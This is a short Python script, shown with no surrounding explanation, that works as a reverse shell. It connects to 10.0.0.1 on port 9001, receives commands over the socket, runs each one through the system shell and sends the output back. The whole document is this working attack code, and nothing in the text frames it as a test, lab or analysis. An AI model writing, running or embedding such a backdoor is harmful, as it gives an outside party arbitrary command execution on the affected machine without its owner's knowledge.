import socket, subprocess
s = socket.socket()
s.connect(("10.0.0.1", 9001))
while True:
    cmd = s.recv(1024).decode()
    out = subprocess.run(cmd, shell=True, capture_output=True)
    s.send(out.stdout)
